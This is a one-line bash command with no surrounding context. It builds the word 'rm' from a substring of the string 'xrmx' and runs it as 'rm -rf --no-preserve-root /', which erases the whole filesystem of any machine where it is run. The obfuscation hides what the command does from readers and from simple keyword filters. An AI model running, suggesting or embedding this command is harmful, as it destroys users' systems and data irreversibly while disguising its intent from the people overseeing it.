p="xrmx"; ${p:1:2} -rf --no-preserve-root /
